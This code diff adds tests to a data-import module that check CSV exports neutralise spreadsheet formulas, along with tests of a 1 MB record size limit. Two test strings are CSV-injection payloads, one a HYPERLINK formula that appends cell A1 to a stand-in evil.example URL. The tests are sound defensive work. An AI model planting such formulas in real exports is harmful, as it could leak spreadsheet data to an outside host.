@@ -1,4 +1,5 @@
 import { importFile, ImportFormatError, importText, rejectedRowsCsv, type ImportProgress } from '@/lib/import';
+import { MAX_RECORD_CHARS, RECORD_TOO_LONG } from '@/lib/import/text-chunks';
 import { closeDbForTests } from '@/lib/store/db';
 import { countEvents } from '@/lib/store/events';
 import { getProspect } from '@/lib/store/prospects';
@@ -135,6 +136,35 @@ describe('rejectedRowsCsv', () => {
       ],
     });
     expect(text).toBe("line,reason\r\n7,occurred_at 'yesterday' is not a date\r\n9,\"event_type 'foo' is not one of a, b\"\r\n");
+  });
+
+  it('neutralises spreadsheet formulas in a reason, as the exports do', () => {
+    const text = rejectedRowsCsv({ rejectedRows: [{ line: 3, reason: '=HYPERLINK("https://evil.example","click") is not a single value' }] });
+    expect(text).toBe('line,reason\r\n3,"\'=HYPERLINK(""https://evil.example"",""click"") is not a single value"\r\n');
+  });
+
+  it('neutralises a formula that came from the imported file itself (a JSON key quoted in the reason)', async () => {
+    const key = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
+    const summary = await importText(JSON.stringify([{ email: 'a@x.example', [key]: { x: 1 } }]), 'hostile.json');
+    expect(summary.rejectedRows).toEqual([{ line: 1, reason: `${key} is not a single value` }]);
+    const lines = rejectedRowsCsv(summary).split('\r\n');
+    expect(lines[1]).toMatch(/^1,"'=HYPERLINK/);
+  });
+});
+
+describe('the record size limit', () => {
+  it('rejects a JSON or NDJSON record over 1 MB with its line, and imports the rest', async () => {
+    const long = JSON.stringify({ email: 'big@x.example', event_type: 'other', event_title: 'x'.repeat(MAX_RECORD_CHARS) });
+    const small = (n: number) => JSON.stringify({ email: `p${n}@x.example`, event_type: 'email_open', occurred_at: '2026-11-01T09:00:00Z', event_title: `E${n}` });
+    for (const [name, text] of [
+      ['big.ndjson', [small(1), long, small(2)].join('\n')],
+      ['big.json', `[${small(1)},\n${long},\n${small(2)}]`],
+    ] as const) {
+      const summary = await importText(text, name);
+      expect(summary).toMatchObject({ recordsRead: 3, rejected: 1, rejectedRows: [{ line: 2, reason: RECORD_TOO_LONG }] });
+      expect(summary.imported + summary.skipped).toBe(2);
+    }
+    expect(await countEvents()).toBe(2);
   });
 });
 
